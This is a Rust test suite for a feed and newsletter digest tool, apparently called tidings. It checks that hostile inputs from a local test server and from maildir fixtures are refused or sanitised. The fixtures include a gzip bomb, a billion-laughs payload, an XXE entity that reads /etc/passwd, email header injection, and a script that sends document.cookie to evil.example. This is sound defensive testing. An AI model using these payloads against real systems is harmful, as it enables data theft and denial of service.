//! Hostile and broken input, through real HTTP: every bad source is reported by name, the run
//! goes on with the good ones, memory stays bounded, and nothing leaks.
//!
//! These run `tidings preview` (no SMTP needed) against a local server that misbehaves on
//! purpose: endless and trickling bodies, gzip bombs, entity expansion, redirect loops, a TLS
//! handshake against plain HTTP, 10,000 items, and newsletters full of scripts and injections.

use crate::common;

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::time::Duration;

use common::*;

/// A server whose every path is a misbehaviour.
fn start_hostile_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || handle(stream));
        }
    });
    base
}

fn head(stream: &mut TcpStream, status: &str, extra: &str) -> std::io::Result<()> {
    write!(
        stream,
        "HTTP/1.1 {status}\r\nConnection: close\r\n{extra}\r\n"
    )
}

fn handle(mut stream: TcpStream) {
    let _ = stream.set_write_timeout(Some(Duration::from_secs(20)));
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
            break;
        }
    }
    let _ = match path.as_str() {
        "/good.xml" => {
            let body = rss(&[(
                "Good story survives hostile neighbours",
                "https://good.example/story?utm_source=x",
                "Sun, 22 Nov 2026 10:00:00 GMT",
                "good-1",
            )]);
            send(
                &mut stream,
                "200 OK",
                "application/rss+xml",
                body.as_bytes(),
            )
        }
        // An endless body with no Content-Length: only the size cap can stop it.
        "/endless.xml" => head(
            &mut stream,
            "200 OK",
            "Content-Type: application/rss+xml\r\n",
        )
        .and_then(|_| {
            stream.write_all(b"<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>")?;
            let chunk = vec![b'a'; 64 * 1024];
            for _ in 0..(200 * 16) {
                stream.write_all(&chunk)?; // 200 MiB in all, unless the client hangs up first
            }
            Ok(())
        }),
        // Claims 200 MB up front: refused before reading.
        "/huge-declared.xml" => head(
            &mut stream,
            "200 OK",
            "Content-Type: application/rss+xml\r\nContent-Length: 209715200\r\n",
        )
        .and_then(|_| stream.write_all(b"<rss>")),
        // One byte a second: a connect timeout alone would wait for ever.
        "/trickle.xml" => head(
            &mut stream,
            "200 OK",
            "Content-Type: application/rss+xml\r\n",
        )
        .and_then(|_| {
            for b in b"<?xml version=\"1.0\"?><rss version=\"2.0\"><channel>"
                .iter()
                .cycle()
                .take(120)
            {
                stream.write_all(&[*b])?;
                stream.flush()?;
                std::thread::sleep(Duration::from_secs(1));
            }
            Ok(())
        }),
        // ~20 KB of gzip that inflates to 20 MB of spaces, ten times the cap. Made once: building
        // it per request costs seconds in a debug build on a loaded machine.
        "/bomb.xml" => {
            static BOMB: std::sync::LazyLock<Vec<u8>> =
                std::sync::LazyLock::new(|| gzip_bomb(20 * 1024 * 1024));
            let bomb = &*BOMB;
            head(&mut stream, "200 OK", &format!("Content-Type: application/rss+xml\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n", bomb.len())).and_then(|_| stream.write_all(bomb))
        }
        "/laughs.xml" => send(
            &mut stream,
            "200 OK",
            "application/rss+xml",
            BILLION_LAUGHS.as_bytes(),
        ),
        "/xxe.xml" => send(&mut stream, "200 OK", "application/rss+xml", XXE.as_bytes()),
        "/loop" => head(
            &mut stream,
            "302 Found",
            "Location: /loop\r\nContent-Length: 0\r\n",
        ),
        "/empty.xml" => send(&mut stream, "200 OK", "application/rss+xml", b""),
        "/gone.xml" => send(
            &mut stream,
            "500 Internal Server Error",
            "text/plain",
            b"boom",
        ),
        "/latin1.xml" => send(&mut stream, "200 OK", "application/rss+xml", &latin1_feed()),
        "/many.xml" => {
            let items: Vec<(String, String, String, String)> = (0..10_000)
                .map(|i| {
                    (
                        format!("Item number {i} of many"),
                        format!("https://many.example/{i}?fbclid=x{i}"),
                        "Sat, 21 Nov 2026 10:00:00 GMT".to_string(),
                        format!("many-{i}"),
                    )
                })
                .collect();
            let refs: Vec<(&str, &str, &str, &str)> = items
                .iter()
                .map(|(a, b, c, d)| (a.as_str(), b.as_str(), c.as_str(), d.as_str()))
                .collect();
            send(
                &mut stream,
                "200 OK",
                "application/rss+xml",
                rss(&refs).as_bytes(),
            )
        }
        "/odd.xml" => send(
            &mut stream,
            "200 OK",
            "application/rss+xml",
            ODD_ITEMS.as_bytes(),
        ),
        _ => send(&mut stream, "404 Not Found", "text/plain", b"no"),
    };
}

fn send(stream: &mut TcpStream, status: &str, ct: &str, body: &[u8]) -> std::io::Result<()> {
    head(
        stream,
        status,
        &format!("Content-Type: {ct}\r\nContent-Length: {}\r\n", body.len()),
    )?;
    stream.write_all(body)
}

fn rss(items: &[(&str, &str, &str, &str)]) -> String {
    let mut s = String::from("<?xml version=\"1.0\" encoding=\"utf-8\"?><rss version=\"2.0\"><channel><title>Feed</title>");
    for (title, link, date, guid) in items {
        s.push_str(&format!("<item><title>{title}</title><link>{}</link><pubDate>{date}</pubDate><guid>{guid}</guid><description>About {title}.</description></item>", link.replace('&', "&amp;")));
    }
    s.push_str("</channel></rss>");
    s
}

fn gzip_bomb(size: usize) -> Vec<u8> {
    use flate2::{write::GzEncoder, Compression};
    let mut enc = GzEncoder::new(Vec::new(), Compression::fast());
    let chunk = vec![b' '; 1024 * 1024];
    for _ in 0..size / chunk.len() {
        enc.write_all(&chunk).unwrap();
    }
    enc.finish().unwrap()
}

fn latin1_feed() -> Vec<u8> {
    let mut v = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss version=\"2.0\"><channel><title>Latin</title><item><title>Caf".to_vec();
    v.push(0xE9); // é in ISO-8859-1
    v.extend_from_slice(b" in Z");
    v.push(0xFC); // ü
    v.extend_from_slice(b"rich reopens its doors</title><link>https://latin.example/cafe</link><guid>l1</guid><pubDate>Sun, 22 Nov 2026 09:00:00 GMT</pubDate></item></channel></rss>");
    v
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Laughs</title><item><title>&lol9;</title><link>https://laughs.example/1</link><guid>lol</guid></item></channel></rss>"#;

const XXE: &str = r#"<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>XXE</title><item><title>Leak &secret; here</title><link>https://xxe.example/1</link><guid>xxe</guid></item></channel></rss>"#;

/// No title, no link, no date, a date in the future, and a GUID used twice.
const ODD_ITEMS: &str = r#"<?xml version="1.0"?><rss version="2.0"><channel><title>Odd</title>
<item><description>Only a description, no title or link or date at all here</description><guid>odd-1</guid></item>
<item><title>From the future</title><link>https://odd.example/future</link><pubDate>Sat, 01 Jan 2099 00:00:00 GMT</pubDate><guid>odd-2</guid></item>
<item><title>Twin one</title><link>https://odd.example/twin</link><guid>odd-twin</guid></item>
<item><title>Twin one</title><link>https://odd.example/twin</link><guid>odd-twin</guid></item>
</channel></rss>"#;

fn write_config(dir: &Path, feeds: &[(&str, String)], extra: &str) -> std::path::PathBuf {
    write_config_capped(dir, feeds, extra, 2_000_000, "8s")
}

fn write_config_capped(
    dir: &Path,
    feeds: &[(&str, String)],
    extra: &str,
    max_bytes: u64,
    timeout: &str,
) -> std::path::PathBuf {
    // No size budget: these tests count every item a hostile feed yields in digest.json.
    let mut text = format!(
        "[digest]\ntitle = \"Hostile\"\nlookback = \"3650d\"\nmax_bytes = 1000000000\n\n[delivery]\nfrom = \"t@example.org\"\nto = [\"me@example.org\"]\n\n[smtp]\nhost = \"127.0.0.1\"\nport = {}\nsecurity = \"none\"\n\n[fetch]\ntimeout = \"{timeout}\"\nmax_bytes = {max_bytes}\n{extra}\n",
        closed_port()
    );
    for (name, url) in feeds {
        text.push_str(&format!(
            "\n[[feeds]]\nurl = \"{url}\"\nname = \"{name}\"\n"
        ));
    }
    let p = dir.join("config.toml");
    std::fs::write(&p, text).unwrap();
    p
}

fn preview(
    cfg: &Path,
    out: &Path,
    envs: &[(&str, &str)],
) -> (std::process::Output, serde_json::Value) {
    let o = tidings(cfg, &["preview", "--out", out.to_str().unwrap()], envs);
    let json = std::fs::read_to_string(out.join("digest.json"))
        .map(|s| serde_json::from_str(&s).unwrap())
        .unwrap_or(serde_json::Value::Null);
    (o, json)
}

fn error_for<'a>(json: &'a serde_json::Value, source: &str) -> Option<&'a str> {
    json["errors"]
        .as_array()?
        .iter()
        .find(|e| e["source"] == source)
        .and_then(|e| e["message"].as_str())
}

fn stories(json: &serde_json::Value) -> Vec<serde_json::Value> {
    json["groups"]
        .as_array()
        .map(|g| {
            g.iter()
                .flat_map(|g| g["stories"].as_array().cloned().unwrap_or_default())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn hostile_feeds_are_reported_and_the_good_feed_still_arrives() {
    let base = start_hostile_server();
    let https_base = base.replace("http://", "https://");
    let dir = tempfile::tempdir().unwrap();
    let feeds = [
        ("Good", format!("{base}/good.xml")),
        ("Endless", format!("{base}/endless.xml")),
        ("Declared huge", format!("{base}/huge-declared.xml")),
        ("Trickle", format!("{base}/trickle.xml")),
        ("Bomb", format!("{base}/bomb.xml")),
        ("Laughs", format!("{base}/laughs.xml")),
        ("XXE", format!("{base}/xxe.xml")),
        ("Loop", format!("{base}/loop")),
        ("Empty", format!("{base}/empty.xml")),
        ("Gone", format!("{base}/gone.xml")),
        ("TLS", format!("{https_base}/good.xml")),
        (
            "Nobody home",
            format!("http://127.0.0.1:{}/feed.xml", closed_port()),
        ),
    ];
    let cfg = write_config(dir.path(), &feeds, "");
    let out = dir.path().join("out");
    let (o, json) = preview(&cfg, &out, &[]);
    assert_eq!(
        o.status.code(),
        Some(2),
        "some sources failed, the digest was still built"
    );

    let s = stories(&json);
    assert!(
        s.iter().any(|s| s["url"] == "https://good.example/story"),
        "the good feed's story is missing"
    );

    let expect = [
        ("Endless", "larger than 2000000 bytes"),
        ("Declared huge", "larger than 2000000 bytes"),
        ("Trickle", "timed out after 8s"),
        ("Bomb", "larger than 2000000 bytes"),
        ("Loop", "redirect"),
        ("Empty", "the response is empty"),
        ("Gone", "HTTP 500"),
        ("TLS", "TLS with 127.0.0.1 failed"),
        ("Nobody home", "connection refused by 127.0.0.1"),
    ];
    for (source, needle) in expect {
        let msg = error_for(&json, source)
            .unwrap_or_else(|| panic!("no error reported for {source}: {json}"));
        assert!(msg.contains(needle), "{source}: `{msg}` lacks `{needle}`");
    }
    // Entity expansion is not performed: the laughs stay unexpanded or the feed is refused,
    // and the external entity is never read.
    let text = std::fs::read_to_string(out.join("digest.txt")).unwrap();
    assert!(!text.contains("lollollollollol"), "entities were expanded");
    assert!(!text.contains("root:"), "an external entity was read");
}

#[test]
fn wrong_charset_many_items_and_odd_items() {
    let base = start_hostile_server();
    let dir = tempfile::tempdir().unwrap();
    let feeds = [
        ("Latin", format!("{base}/latin1.xml")),
        ("Many", format!("{base}/many.xml")),
        ("Odd", format!("{base}/odd.xml")),
    ];
    let cfg = write_config_capped(dir.path(), &feeds, "", 20_000_000, "30s");
    let (o, json) = preview(&cfg, &dir.path().join("out"), &[]);
    assert_eq!(o.status.code(), Some(0), "{json}");
    let s = stories(&json);
    assert!(
        s.iter()
            .any(|s| s["title"] == "Café in Zürich reopens its doors"),
        "ISO-8859-1 was not decoded"
    );
    let many: Vec<_> = s
        .iter()
        .filter(|s| {
            s["url"]
                .as_str()
                .is_some_and(|u| u.starts_with("https://many.example/"))
        })
        .collect();
    assert_eq!(
        many.len(),
        10_000,
        "every item of a 10,000-item feed is kept"
    );
    assert!(many
        .iter()
        .all(|s| !s["url"].as_str().unwrap().contains("fbclid")));
    // No title: the description stands in. Future date: clamped to now. Duplicate GUID: once.
    assert!(s.iter().any(|s| s["title"]
        .as_str()
        .unwrap()
        .starts_with("Only a description")));
    let future = s.iter().find(|s| s["title"] == "From the future").unwrap();
    let when = chrono::DateTime::parse_from_rfc3339(future["published"].as_str().unwrap()).unwrap();
    assert!(
        when <= chrono::Utc::now(),
        "a future date must not stay in the future"
    );
    assert_eq!(s.iter().filter(|s| s["title"] == "Twin one").count(), 1);
}

#[test]
fn hostile_newsletters_are_defused_and_never_reach_the_headers() {
    let dir = tempfile::tempdir().unwrap();
    let md = empty_maildir(dir.path(), "mail");
    let hostile = "From: \"Evil\r\nBcc: victim@example.org\" <evil@example.org>\r\nTo: me@example.org\r\nSubject: Hello\r\n =?UTF-8?Q?there=0D=0ABcc:_victim@example.org?=\r\nDate: Sun, 22 Nov 2026 08:00:00 +0000\r\nMessage-ID: <evil-1@example.org>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><body><h2><a href=\"https://evil.example/story-one?utm_source=x\">A perfectly normal headline here</a></h2>\
<p onclick=\"steal()\">Read <a href=\"javascript:alert(1)\">this</a> and <a href=\"data:text/html,boom\">that</a>.\
<script>document.location='https://evil.example/?c='+document.cookie</script>\
<img src=\"https://evil.example/pixel.gif\" width=\"1\" height=\"1\"><iframe src=\"https://evil.example/frame\"></iframe>\
<form action=\"https://evil.example/post\"><input name=\"pw\"></form><span style=\"background:url(https://evil.example/x);width:expression(alert(1))\">styled</span></p>\
</body></html>\r\n";
    std::fs::write(md.join("new/1.evil"), hostile).unwrap();
    // Deep MIME nesting and a body nested 100,000 elements deep.
    let mut nested = String::from("From: deep@example.org\r\nSubject: Deep\r\nMessage-ID: <deep-1@example.org>\r\nDate: Sun, 22 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\n");
    for i in 0..60 {
        nested.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n"
        ));
    }
    nested.push_str(&format!("Content-Type: text/html\r\n\r\n{}<p>Deep headline text that is long enough to count here</p>{}\r\n", "<div>".repeat(100_000), "</div>".repeat(100_000)));
    std::fs::write(md.join("new/2.deep"), nested).unwrap();
    // A 50 MB message is skipped without being loaded.
    let mut big = std::fs::File::create(md.join("new/3.big")).unwrap();
    big.write_all(b"From: big@example.org\r\nSubject: Big\r\nMessage-ID: <big-1@example.org>\r\nContent-Type: application/octet-stream\r\n\r\n").unwrap();
    big.set_len(50 * 1024 * 1024).unwrap();

    let cfg = write_config(
        dir.path(),
        &[],
        "\n[[mailboxes]]\ntype = \"maildir\"\npath = \"mail\"\n",
    );
    let out = dir.path().join("out");
    let (o, json) = preview(&cfg, &out, &[]);
    assert!(o.status.code().is_some(), "tidings crashed");
    let html = std::fs::read_to_string(out.join("digest.html")).unwrap();
    let eml = std::fs::read_to_string(out.join("digest.eml")).unwrap();
    for bad in [
        "<script",
        "javascript:",
        "data:text",
        "onclick",
        "<iframe",
        "<form",
        "expression(",
        "evil.example/pixel",
        "evil.example/x",
        "<img",
    ] {
        assert!(!html.contains(bad), "`{bad}` reached the digest");
    }
    assert!(
        html.contains("https://evil.example/story-one\""),
        "the real story link survives, cleaned"
    );
    assert!(
        !html.contains("document.cookie"),
        "script text must not become a blurb"
    );
    let headers = &eml[..eml.find("\r\n\r\n").unwrap()];
    assert!(
        !headers.to_lowercase().contains("bcc"),
        "header injection reached the digest's headers: {headers}"
    );
    assert!(!headers.contains("victim"), "{headers}");
    let mailbox_errors: Vec<&str> = json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["source"] == md.display().to_string())
        .filter_map(|e| e["message"].as_str())
        .collect();
    assert!(
        mailbox_errors
            .iter()
            .any(|m| m.contains("`3.big`") && m.contains("limit")),
        "the big message is reported: {json}"
    );
}

#[test]
fn no_secret_or_subscriber_link_appears_in_trace_logs() {
    let mail = MailEnv::get();
    let dir = tempfile::tempdir().unwrap();
    let md = empty_maildir(dir.path(), "mail");
    let subscriber = "subscriber-token-8f3a9c";
    let msg = format!(
        "From: News <news@example.org>\r\nSubject: News\r\nMessage-ID: <n-1@example.org>\r\nDate: Sun, 22 Nov 2026 08:00:00 +0000\r\nContent-Type: text/plain\r\n\r\nA story that has a headline\r\nhttps://news.example/a?utm_source=nl&mc_eid={subscriber}\r\nSomething happened today, in detail.\r\n\r\nUnsubscribe: https://news.example/unsubscribe?token={subscriber}\r\n"
    );
    std::fs::write(md.join("new/1.news"), msg).unwrap();
    let text = format!(
        "[delivery]\nfrom = \"t@example.org\"\nto = [\"trace-{n}@example.org\"]\n\n[smtp]\nhost = \"{host}\"\nport = {port}\nsecurity = \"starttls\"\nusername = \"{user}\"\npassword_env = \"TIDINGS_TRACE_PW\"\nca_file = \"{ca}\"\n\n[digest]\nlookback = \"3650d\"\n\n[[mailboxes]]\ntype = \"maildir\"\npath = \"mail\"\n",
        n = nonce(),
        host = mail.host,
        port = mail.starttls_port,
        user = mail.user,
        ca = mail.ca.display()
    );
    let cfg = dir.path().join("config.toml");
    std::fs::write(&cfg, text).unwrap();
    let o = tidings(
        &cfg,
        &["run", "-vvv"],
        &[
            ("TIDINGS_TRACE_PW", mail.password.as_str()),
            ("RUST_LOG", "trace"),
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let logs = format!("{}{}", stderr(&o), stdout(&o));
    assert!(
        logs.contains("TRACE") || logs.contains("DEBUG"),
        "trace logging was not on"
    );
    assert!(
        !logs.contains(&mail.password),
        "the SMTP password appears in the logs"
    );
    assert!(
        !logs.contains(subscriber),
        "a subscriber token appears in the logs"
    );
}
